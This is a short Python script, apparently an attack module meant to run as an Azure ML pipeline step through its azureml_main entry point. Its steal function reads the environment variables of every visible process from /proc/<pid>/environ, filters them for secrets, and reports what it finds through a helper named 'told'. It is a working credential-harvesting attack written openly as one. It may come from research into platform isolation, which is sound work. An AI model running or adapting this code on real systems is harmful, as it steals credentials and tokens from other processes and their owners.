"""Reads the environment variables of every process that it can see, and looks for secrets."""

import os

from attack import attack, every, is_secret, processes, told


def steal(pid):
    with open(f"/proc/{pid}/environ", "rb") as stream:
        content = stream.read()
    found = [each for each in content.split(b"\0") if is_secret(each)]
    return told(f"the variables of {pid}", b" ".join(found)) if pid != os.getpid() else ""


@attack
def azureml_main(dataframe1=None, dataframe2=None):
    return every(steal, processes())
